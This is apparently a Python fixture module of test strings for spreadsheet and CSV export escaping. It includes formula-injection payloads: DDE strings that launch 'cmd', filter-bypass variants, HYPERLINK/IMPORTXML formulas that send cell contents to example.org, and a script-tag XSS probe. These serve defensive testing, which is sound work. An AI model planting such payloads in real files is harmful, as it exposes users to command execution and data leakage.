"""Texts that spreadsheets have been made to run, and texts that break files; in both languages' scripts."""

from __future__ import annotations

FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"点击")',
    '=IMPORTXML(CONCAT("http://example.org/?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "%0A-3+3+cmd|'/C calc'!D2",
    "|calc",
)
"""Each would be taken for a formula by some program, at the start of a cell of a CSV file."""

INSIDE = ("路面;=1+1", "路面\t=1+1", "路面\n=1+1", "路面\n+1", "a;@SUM(1)", '路面";=1+1')
"""Harmless unless the list separator is another than the comma."""

AWKWARD = (
    "#REF!",
    "#N/A",
    "TRUE",
    "0123",
    "1e5",
    "2023-07-14",
    "_x000D_",
    "_x0041_",
    "<script>alert(1)</script>",
    "]]>&amp;",
    'say "hi", 好',
    "first\nsecond",
    "表情🙂",
    "\x00NUL\x08",
    "\ufffe\uffff\ud800",
    "'=1+1",
    "字" * 40_000,
)
"""What a cell of an XLSX file might take for something else, or could not hold."""
